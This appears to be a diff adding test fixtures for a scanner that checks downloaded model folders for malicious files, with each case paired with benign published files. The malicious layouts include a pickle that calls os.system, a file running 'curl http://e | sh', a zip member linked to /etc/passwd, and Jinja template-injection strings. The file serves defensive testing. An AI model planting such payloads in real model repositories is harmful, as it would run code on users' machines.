@@ -1,0 +1,189 @@
+"""The adaptive corpus: one case per assumption the scanner makes, written after reading it.
+
+Each malicious case lays files into a model folder (`lay`) and names the file the refusal must
+point at (`culprit`). Each has a benign twin drawn from real published repos (small files, the
+licence noted in tests/scan/corpus/README.md) that must scan quiet at the default threshold.
+`test_scan_adaptive` scans both; `test_scan_gate` lays each malicious case into the built-in
+drafter with its code reviewed and expects a refusal.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import gzip
+import io
+import json
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+
+@dataclasses.dataclass(frozen=True)
+class Case:
+    """A malicious layout (`lay`), its class, and the file its refusal must name."""
+
+    name: str
+    klass: str
+    lay: Callable[[Path], None]
+    culprit: str
+
+    def shows_in(self, text: str) -> bool:
+        return self.culprit in text
+
+
+def _write(folder: Path, relative: str, data: bytes | str) -> None:
+    path = folder / relative
+    path.parent.mkdir(parents=True, exist_ok=True)
+    if isinstance(data, str):
+        path.write_text(data)
+    else:
+        path.write_bytes(data)
+
+
+_SYSTEM_PICKLE = b"\x80\x04cos\nsystem\nX\x02\x00\x00\x00id\x85R."
+
+
+# -- class walk: what lock lists is what scan reads -------------------------------------------
+def _nested_hidden(folder: Path) -> None:
+    _write(folder, "ckpt/.cache/modeling_evil.py", 'import os\nos.system("curl http://e | sh")\n')
+    _write(folder, "ckpt/.git/pytorch_model.bin", _SYSTEM_PICKLE)
+    _write(folder, "pytorch_model.bin.index.json",
+           '{"metadata":{"total_size":1},"weight_map":{"fc.weight":"ckpt/.git/pytorch_model.bin"}}')
+
+
+# -- class formats: only allowlisted formats that parse completely pass ----------------------
+def _unknown_binary(folder: Path) -> None:
+    """No signature the sniffer knows and a data-looking name: `pickle.load` still reads it."""
+    _write(folder, "extra_state.dat", b"\x00\x17DFL" + bytes(range(256)) * 4)
+
+
+def _truncated_npy(folder: Path) -> None:
+    """A valid .npy header promising 4096 floats, and 8 bytes of data."""
+    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (4096,), }"
+    header += b" " * (117 - len(header)) + b"\n"
+    _write(folder, "embeddings.npy", b"\x93NUMPY\x01\x00v\x00" + header + b"\x00" * 8)
+
+
+def _truncated_gzip_pickle(folder: Path) -> None:
+    """joblib.load decompresses a gzip stream and unpickles what it got before the cut."""
+    _write(folder, "cache.dat", gzip.compress(_SYSTEM_PICKLE + b"\x00" * 64)[:-12])
+
+
+def _text_named_shard(folder: Path) -> None:
+    """A protocol-0 pickle is printable text; the bin index makes torch.load read `.txt`."""
+    _write(folder, "notes.txt", "ccollections\nOrderedDict\n(tR.")
+    _write(folder, "pytorch_model.bin.index.json", '{"weight_map":{"fc.weight":"notes.txt"}}')
+
+
+def _zip_member_link(folder: Path) -> None:
+    """A zip whose member is a symbolic link (an extracting loader follows it)."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        info = zipfile.ZipInfo("archive/data.pkl")
+        info.external_attr = (0o120777 << 16)
+        archive.writestr(info, "/etc/passwd")
+    _write(folder, "assets.zip", out.getvalue())
+
+
+def _json_named_pickle(folder: Path) -> None:
+    """A binary pickle named like a config: not JSON, so a possible pickle."""
+    _write(folder, "generation_config.json", b"\x80\x02}q\x00.")
+
+
+# -- class templates: constructs outside the subset real templates use -----------------------
+def _template(relative: str, source: str) -> Callable[[Path], None]:
+    def lay(folder: Path) -> None:
+        if relative.endswith(".json"):
+            _write(folder, relative, json.dumps({"chat_template": source}))
+        else:
+            _write(folder, relative, source)
+    return lay
+
+
+MALICIOUS: list[Case] = [
+    Case("nested-hidden-folders", "walk", _nested_hidden, "ckpt/.git/pytorch_model.bin"),
+    Case("unknown-binary", "formats", _unknown_binary, "extra_state.dat"),
+    Case("truncated-npy", "formats", _truncated_npy, "embeddings.npy"),
+    Case("truncated-gzip-pickle", "formats", _truncated_gzip_pickle, "cache.dat"),
+    Case("index-names-text-shard", "formats", _text_named_shard, "notes.txt"),
+    Case("zip-member-link", "formats", _zip_member_link, "assets.zip"),
+    Case("json-named-pickle", "formats", _json_named_pickle, "generation_config.json"),
+    Case("template-include", "templates", _template(
+        "tokenizer_config.json", "{% include 'system.txt' %}{{ messages[0].content }}"),
+        "tokenizer_config.json"),
+    Case("template-power-dos", "templates", _template(
+        "chat_template.jinja", "{{ 9 ** 9 ** 9 }}{{ messages[0].content }}"),
+        "chat_template.jinja"),
+    Case("template-bound-method-call", "templates", _template(
+        "chat_template.jinja", "{% set f = messages.pop %}{{ f(0) }}"), "chat_template.jinja"),
+    Case("template-call-block", "templates", _template(
+        "chat_template.jinja", "{% call(x) messages.append('x') %}{{ x }}{% endcall %}"),
+        "chat_template.jinja"),
+    Case("template-format-field", "templates", _template(
+        "tokenizer_config.json", "{{ '{0.mro}'.format(messages) }}"), "tokenizer_config.json"),
+]
+
+
+# -- benign twins: real published files, and files written by the libraries loaders use -------
+CORPUS = Path(__file__).parent / "corpus"
+# The default .gitattributes the Hugging Face Hub writes into every new model repository.
+_HF_GITATTRIBUTES = "".join(
+    f"{pattern} filter=lfs diff=lfs merge=lfs -text\n"
+    for pattern in ("*.7z", "*.bin", "*.ckpt", "*.h5", "*.npy", "*.npz", "*.onnx", "*.pt",
+                    "*.pth", "*.safetensors", "*.tar.*", "*.zip", "*tfevents*")
+)
+
+
+def _copy(folder: Path, source: str, relative: str | None = None) -> None:
+    _write(folder, relative or Path(source).name, (CORPUS / source).read_bytes())
+
+
+def _hf_local_dir(folder: Path) -> None:
+    """`huggingface-cli download --local-dir`: its .cache bookkeeping, .gitattributes, weights."""
+    from tests.support.scan_builders import write_safetensors
+
+    _write(folder, ".cache/huggingface/download/model.safetensors.metadata",
+           "c" * 40 + "\n" + "e" * 64 + "\n1733000000.0\n")
+    _write(folder, ".gitattributes", _HF_GITATTRIBUTES)
+    write_safetensors(folder / "model.safetensors")
+    _copy(folder, "drafter_configs/qwen3.8-27b-dflash2/config.json")
+
+
+def _numpy_array(folder: Path) -> None:
+    """An array written by numpy.save (format 1.0, float32)."""
+    import numpy as np
+
+    np.save(folder / "embeddings.npy", np.arange(4096, dtype=np.float32))
+
+
+def _sharded_safetensors(folder: Path) -> None:
+    """Two shards and the index transformers writes for them."""
+    from tests.support.scan_builders import write_safetensors
+
+    write_safetensors(folder / "model-00001-of-00002.safetensors", {"a": (2, 2)})
+    write_safetensors(folder / "model-00002-of-00002.safetensors", {"b": (2,)})
+    _write(folder, "model.safetensors.index.json",
+           '{"metadata": {"total_size": 24}, "weight_map": {'
+           '"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}}')
+
+
+def _text_files(folder: Path) -> None:
+    """Licence and tokenizer config text of a published model (DeepSeek-V3, MIT)."""
+    _copy(folder, "remote_code/deepseek-v3/LICENSE")
+    _copy(folder, "remote_code/deepseek-v3/tokenizer_config.json")
+
+
+def _published_templates(folder: Path) -> None:
+    """Published chat templates (Qwen3, Llama 3, Gemma, Phi-3; MIT/Apache, see corpus)."""
+    for name in ("qwen3/all_assistant.jinja", "llama-3-instruct.jinja", "gemma-it.jinja",
+                 "phi-3.jinja", "granite-3.0-instruct.jinja"):
+        _copy(folder, f"templates/{name}", name.replace("/", "-"))
+
+
+BENIGN: list[Case] = [
+    Case("hf-local-dir", "walk", _hf_local_dir, ""),
+    Case("numpy-array", "formats", _numpy_array, ""),
+    Case("sharded-safetensors", "formats", _sharded_safetensors, ""),
+    Case("published-text", "formats", _text_files, ""),
+    Case("published-templates", "templates", _published_templates, ""),
+]
